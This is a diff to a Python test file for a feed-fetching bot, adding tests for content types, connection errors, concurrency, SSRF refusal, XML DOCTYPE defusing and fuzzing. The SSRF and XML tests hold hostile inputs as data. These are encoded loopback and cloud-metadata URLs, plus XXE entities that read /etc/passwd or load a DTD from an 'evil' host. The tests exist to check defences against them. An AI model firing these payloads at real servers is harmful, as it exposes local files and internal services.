@@ -12,9 +12,13 @@ from pathlib import Path
 
 import pytest
 from feedbuilder import atom, entry, json_feed, rss
-from feedserver import FeedServer, feed_server_fixture  # noqa: F401 -- the feed_server fixture
+from feedserver import FeedServer, Route, feed_server_fixture  # noqa: F401 -- the feed_server fixture
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from adapters.feeds import FeedParseError, HttpFeedFetcher, parse_feed
+from adapters.feeds.html_text import html_to_text
+from adapters.feeds.xmlsafety import defuse_doctype
 from bot.model import FetchStatus, PollRequest
 
 LOCAL = {"127.0.0.1"}
@@ -22,9 +26,9 @@ NOW = datetime(2026, 2, 17, 12, 0, tzinfo=UTC)
 
 
 def fetcher(**kw: object) -> HttpFeedFetcher:
-    settings: dict[str, object] = {"timeout_s": 5.0, "allowed_hosts": LOCAL}
-    settings.update(kw)
-    return HttpFeedFetcher(**settings)  # type: ignore[arg-type]
+    options: dict[str, object] = {"timeout_s": 5.0, "allowed_hosts": LOCAL}
+    options.update(kw)
+    return HttpFeedFetcher(**options)  # type: ignore[arg-type]
 
 
 async def fetch(url: str, **kw: object) -> tuple:
@@ -136,6 +140,28 @@ async def test_bozo_feed_is_ok_with_warning(feed_server: FeedServer) -> None:
     )
 
 
+@pytest.mark.parametrize(
+    "body",
+    [rss([entry(1)]), atom([entry(1, published="2026-02-17T10:00:00Z")])],
+    ids=["rss", "atom"],
+)
+@pytest.mark.parametrize("content_type", ["text/html; charset=utf-8", "application/json", None])
+async def test_mislabelled_feed_is_still_read(
+    feed_server: FeedServer, body: bytes, content_type: str | None
+) -> None:
+    url = feed_server.add_feed("/feed", body, content_type=content_type)
+    result = await fetch(url)
+    assert result.status == FetchStatus.OK and len(result.entries) == 1, result.error
+
+
+async def test_other_2xx_statuses(feed_server: FeedServer) -> None:
+    feed_server.add("/203", Route(body=rss([entry(1)]), status=203))
+    feed_server.add("/204", Route(status=204, content_type=None))
+    assert (await fetch(feed_server.url("/203"))).status == FetchStatus.OK
+    result = await fetch(feed_server.url("/204"))
+    assert result.status == FetchStatus.ERROR and "empty" in result.error
+
+
 # --------------------------------------------------------------------------- HTTP errors
 
 
@@ -236,6 +262,14 @@ async def test_slow_dripping_body_hits_the_wall_clock_deadline(feed_server: Feed
     )
 
 
+async def test_connection_dropped_mid_body(feed_server: FeedServer) -> None:
+    url = feed_server.add_broken("/cut", rss([entry(n) for n in range(50)]))
+    result = await fetch(url)
+    assert result.status == FetchStatus.ERROR and "broke the connection" in result.error, (
+        result.error
+    )
+
+
 # --------------------------------------------------------------------------- redirects
 
 
@@ -304,6 +338,10 @@ async def test_local_server_is_refused_without_allow_list(feed_server: FeedServe
         ("http://0.0.0.0/", "unspecified"),
         ("http://100.64.0.1/", "not a public"),
         ("http://224.0.0.1/", "multicast"),
+        ("http://2130706433/", "loopback"),  # 127.0.0.1 as one decimal number
+        ("http://0x7f000001/", "loopback"),
+        ("http://127.1/", "loopback"),
+        ("http://[64:ff9b::a9fe:a9fe]/", "link-local"),  # NAT64 form of 169.254.169.254
     ],
 )
 async def test_ssrf_targets_are_refused(url: str, reason: str) -> None:
@@ -382,6 +420,25 @@ async def test_concurrency_limits(
     assert feed_server.max_in_flight == expected
 
 
+async def test_a_busy_host_does_not_starve_other_hosts(feed_server: FeedServer) -> None:
+    slow = feed_server.add_feed("/slow", rss([entry(1)]), drip_s=0.1, chunk_size=400)
+    fast = feed_server.add_feed("/fast", rss([entry(2)])).replace("127.0.0.1", "localhost")
+    f = fetcher(concurrency=2, per_host_concurrency=1, allowed_hosts={"127.0.0.1", "localhost"})
+    done: list[str] = []
+
+    async def run(name: str, url: str) -> None:
+        result = await f.fetch(PollRequest(feed_id=1, url=url))
+        assert result.status == FetchStatus.OK, result.error
+        done.append(name)
+
+    try:
+        # Three fetches queue on the slow host; the other host must still get a slot.
+        await asyncio.gather(*(run(f"slow{n}", slow) for n in range(3)), run("fast", fast))
+    finally:
+        await f.aclose()
+    assert done[0] == "fast"
+
+
 # --------------------------------------------------------------------------- parse_feed safety
 
 
@@ -411,6 +468,39 @@ def test_external_entities_never_read_local_files(tmp_path: Path, doctype: str) 
         return
     text = repr((title, entries))
     assert "TOP-SECRET" not in text
+
+
+@pytest.mark.parametrize(
+    ("document", "removed"),
+    [
+        (
+            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+            True,
+        ),
+        (b'<!DOCTYPE r [<!ENTITY a "&b;&b;"><!ENTITY b "x">]><r/>', True),  # nested
+        (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><r/>', True),  # parameter
+        (b'<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "http://evil/x">]><r/>', True),
+        (
+            b'<!DOCTYPE r [<!ENTITY x "a > ] b"><!ENTITY y SYSTEM "file:///x">]><r/>',
+            True,
+        ),  # tricky quotes
+        (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///x">', True),  # unterminated
+        (b'<!DOCTYPE r [<!ENTITY copy "&#169;"><!ENTITY co "Acme">]><r/>', False),  # text only
+        (
+            b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://x/rss.dtd"><rss/>',
+            False,
+        ),
+        (b"<rss><!DOCTYPE r [<!ENTITY x SYSTEM 'f'>]></rss>", False),  # after the root: just text
+        (b"<rss/>", False),
+    ],
+)
+def test_defuse_doctype(document: bytes, removed: bool) -> None:
+    cleaned, warning = defuse_doctype(document)
+    assert (warning is not None) is removed
+    if removed:
+        assert b"<!ENTITY" not in cleaned and b"SYSTEM" not in cleaned.split(b"<r")[0]
+    else:
+        assert cleaned == document
 
 
 def test_feedparser_never_treats_the_body_as_a_path(tmp_path: Path) -> None:
@@ -490,3 +580,30 @@ def test_far_future_dates_are_kept_and_flagged() -> None:
 def test_missing_guid_and_link() -> None:
     _, entries, _, _ = parse_feed(rss([entry(1, guid=None, link=None)]), None, None, now=NOW)
     assert (entries[0].guid, entries[0].url) == (None, None)
+
+
+# --------------------------------------------------------------------------- never crash
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.binary(max_size=400),
+    st.sampled_from([None, "application/rss+xml", "text/html", "application/json"]),
+)
+def test_parse_feed_only_ever_raises_feed_parse_error(
+    body: bytes, content_type: str | None
+) -> None:
+    for document in (
+        body,
+        b'<rss version="2.0"><channel><item><title>' + body + b"</title></item>",
+    ):
+        try:
+            parse_feed(document, content_type, None, now=NOW)
+        except FeedParseError:
+            pass
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=300))
+def test_html_to_text_never_raises(html: str) -> None:
+    assert isinstance(html_to_text(html), str)
